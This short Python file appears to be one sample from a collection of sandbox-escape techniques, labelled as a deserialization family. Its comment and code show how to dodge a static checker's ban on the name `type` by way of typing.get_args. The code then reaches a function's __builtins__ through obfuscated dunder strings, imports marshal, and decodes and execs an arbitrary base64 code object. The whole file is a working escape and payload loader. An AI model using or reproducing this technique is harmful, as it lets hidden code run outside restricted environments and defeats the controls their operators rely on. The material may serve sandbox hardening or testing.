# family: deser
# Escape: typing.get_args(Union[type[int], str])[0] is the alias type[int], callable as type(): it yields the
# attrgetter class (the name `type` only ever appears as a subscript base, an allowed "operand"). Via the
# builtins of tool it imports marshal and loads a code object from bytes, then runs it with exec.
import base64
import operator
import typing


def tool(blob: str) -> dict:
    alias = typing.get_args(typing.Union[type[int], str])[0]
    Getter = alias(operator.attrgetter("real"))
    edge = "_" * 2
    builtins_ns = Getter(edge + "builtins" + edge)(tool)
    code = builtins_ns[edge + "import" + edge]("marshal").loads(base64.b64decode(blob))
    scope: dict = {}
    builtins_ns["exec"](code, scope)
    return scope
